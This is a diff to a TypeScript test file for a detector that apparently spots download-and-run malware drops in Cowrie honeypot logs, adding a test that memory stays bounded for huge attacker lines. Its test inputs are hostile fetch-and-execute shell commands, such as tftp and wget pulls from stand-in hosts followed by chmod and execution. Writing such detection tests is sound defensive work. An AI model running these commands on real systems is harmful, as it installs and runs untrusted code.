@@ -1,5 +1,6 @@
 import assert from "node:assert/strict";
 import { DownloadThenRun } from "../../src/features/download-then-run";
+import { heapKeptBy } from "../support/garbage-collector";
 
 const command = (session: string, input: string) => ({ session, eventid: "cowrie.command.input", input });
 
@@ -28,6 +29,24 @@ describe("DownloadThenRun", () => {
     assert.deepEqual(names, ["wget http://*/i", "wget http://*/i"]);
     assert.equal(drops.observe(command("t", "tftp -g -r mips 203.0.113.5; chmod +x mips; ./mips")), "tftp -g -r mips *");
     assert.equal(drops.observe(command("u", `wget http://x/${"a".repeat(1000)}; sh`))?.length, 256, "a name is cut");
+  });
+
+  it("keeps a name, not the attacker's whole line: 200 drops named from quarter-megabyte lines keep little alive", () => {
+    const drops = new DownloadThenRun();
+    const names: Array<string | undefined> = [];
+    const kept = heapKeptBy(() => {
+      for (let i = 0; i < 200; i++) {
+        const line = `wget http://x/${i}${"a".repeat(300)}; chmod +x b; ./b #${String(i).repeat(128 * 1024)}`;
+        names.push(drops.observe(command(`s${i}`, line)));
+        const huge = String(i).repeat(128 * 1024);
+        drops.observe({ session: `u${i}`, eventid: "cowrie.session.file_download", url: `http://x/${huge}` });
+        names.push(drops.observe(command(`u${i}`, "sh b")));
+        drops.observe({ session: `h${i}`, eventid: "cowrie.session.file_upload", shasum: huge });
+        names.push(drops.observe(command(`h${i}`, "sh b")));
+      }
+    });
+    assert.equal(names.filter((name) => name?.length === 256).length, 600);
+    assert.ok(kept < 5 * 2 ** 20, `${(kept / 2 ** 20).toFixed(1)} MB kept`);
   });
 
   it("does not call a shell alone, or a run in another session, a malware drop", () => {
